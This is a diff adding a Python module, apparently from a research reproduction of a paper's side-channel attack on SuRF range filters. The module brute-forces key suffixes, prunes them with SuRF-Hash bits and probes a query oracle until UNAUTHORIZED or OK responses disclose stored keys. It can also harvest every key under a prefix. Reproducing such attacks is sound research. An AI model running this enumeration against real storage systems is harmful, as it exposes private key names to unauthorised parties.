@@ -1,0 +1,168 @@
+"""Step 3: extending an identified prefix to a full stored key.
+
+Enumerates every key of the target width that starts with the prefix,
+probing each until the system answers UNAUTHORIZED (the key exists but the
+attacker may not read it) or OK (the key exists and is world-readable) —
+either way, a stored key is disclosed.
+
+For SuRF-Hash, the false-positive key's (public) hash value prunes the
+enumeration: any candidate whose hash bits differ from the FP's cannot be
+the stored key, so it is skipped *without issuing a query* (paper section
+6.2.2).  The hash of the fixed prefix is computed once and extended
+incrementally per suffix, so pruning costs far less than querying.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+from typing import Optional
+
+from repro.common.errors import AttackError
+from repro.common.keys import suffix_space_size
+from repro.core.oracle import QueryOracle
+from repro.filters.hashing import SUFFIX_HASH_SEED, fnv1a_64_init, fnv1a_64_update
+from repro.system.responses import Status
+
+
+@dataclass(frozen=True)
+class HashConstraint:
+    """SuRF-Hash pruning data: required hash bits of the stored key."""
+
+    num_bits: int
+    value: int
+
+
+@dataclass
+class ExtensionResult:
+    """Outcome of one prefix extension."""
+
+    key: Optional[bytes]
+    queries_spent: int
+    candidates_considered: int
+    exhausted: bool
+
+    @property
+    def found(self) -> bool:
+        """Whether a stored key was disclosed."""
+        return self.key is not None
+
+
+def expected_extension_queries(prefix_len: int, key_width: int,
+                               hash_bits: int = 0) -> int:
+    """Worst-case probes to extend a prefix (the step-3 feasibility test).
+
+    The suffix space divided by the SuRF-Hash pruning factor; the template
+    discards prefixes whose cost exceeds its budget, the paper's "discard
+    every prefix of length < 40 bits" rule generalized to query cost.
+    """
+    space = suffix_space_size(prefix_len, key_width)
+    return max(1, space >> hash_bits)
+
+
+def extend_prefix_variable(oracle: QueryOracle, prefix: bytes,
+                           max_suffix_len: int,
+                           charset: bytes = bytes(range(256)),
+                           max_queries: Optional[int] = None,
+                           find_all: bool = False) -> "VariableExtensionResult":
+    """Step 3 for variable-length keys (object names, row keys).
+
+    Fixed-width extension enumerates one suffix space; variable-length
+    targets have no single width, so this enumerates suffixes of length
+    0..``max_suffix_len`` over ``charset``, shortest first (shorter names
+    are likelier and cheaper).  Restricting the charset encodes format
+    knowledge — the paper's section 8 observes the attacker can always
+    fold distribution knowledge into the search.
+
+    With ``find_all`` the enumeration continues past hits, harvesting
+    every stored key under the prefix within the budget.
+    """
+    if max_suffix_len < 0:
+        raise AttackError("max_suffix_len must be non-negative")
+    if not charset:
+        raise AttackError("charset must be non-empty")
+    alphabet = sorted(set(charset))
+    found: list = []
+    queries = 0
+    considered = 0
+
+    def candidates():
+        yield prefix
+        for length in range(1, max_suffix_len + 1):
+            for suffix in _suffixes(alphabet, length):
+                yield prefix + suffix
+
+    for candidate in candidates():
+        considered += 1
+        if max_queries is not None and queries >= max_queries:
+            return VariableExtensionResult(found, queries, considered,
+                                           exhausted=False)
+        queries += 1
+        status = oracle.probe(candidate)
+        if status in (Status.UNAUTHORIZED, Status.OK):
+            found.append(candidate)
+            if not find_all:
+                return VariableExtensionResult(found, queries, considered,
+                                               exhausted=False)
+    return VariableExtensionResult(found, queries, considered, exhausted=True)
+
+
+def _suffixes(alphabet, length):
+    if length == 0:
+        yield b""
+        return
+    for head in alphabet:
+        for tail in _suffixes(alphabet, length - 1):
+            yield bytes([head]) + tail
+
+
+@dataclass
+class VariableExtensionResult:
+    """Outcome of a variable-length prefix extension."""
+
+    keys: list
+    queries_spent: int
+    candidates_considered: int
+    exhausted: bool
+
+    @property
+    def found(self) -> bool:
+        """Whether at least one stored key was disclosed."""
+        return bool(self.keys)
+
+
+def extend_prefix(oracle: QueryOracle, prefix: bytes, key_width: int,
+                  hash_constraint: Optional[HashConstraint] = None,
+                  max_queries: Optional[int] = None) -> ExtensionResult:
+    """Brute-force the suffix space of ``prefix`` (paper step 3).
+
+    Stops at the first UNAUTHORIZED/OK response.  ``max_queries`` bounds
+    the probes actually issued (pruned candidates are free).
+    """
+    if len(prefix) > key_width:
+        raise AttackError(
+            f"prefix of {len(prefix)} bytes exceeds key width {key_width}"
+        )
+    suffix_len = key_width - len(prefix)
+    space = suffix_space_size(len(prefix), key_width)
+    mask = None
+    prefix_state = None
+    if hash_constraint is not None and hash_constraint.num_bits:
+        mask = (1 << hash_constraint.num_bits) - 1
+        prefix_state = fnv1a_64_update(fnv1a_64_init(SUFFIX_HASH_SEED), prefix)
+
+    queries = 0
+    considered = 0
+    for value in range(space):
+        suffix = value.to_bytes(suffix_len, "big") if suffix_len else b""
+        considered += 1
+        if mask is not None:
+            if fnv1a_64_update(prefix_state, suffix) & mask != hash_constraint.value:
+                continue  # pruned for free: hash bits cannot match
+        if max_queries is not None and queries >= max_queries:
+            return ExtensionResult(None, queries, considered, exhausted=False)
+        queries += 1
+        status = oracle.probe(prefix + suffix)
+        if status in (Status.UNAUTHORIZED, Status.OK):
+            return ExtensionResult(prefix + suffix, queries, considered,
+                                   exhausted=False)
+    return ExtensionResult(None, queries, considered, exhausted=True)
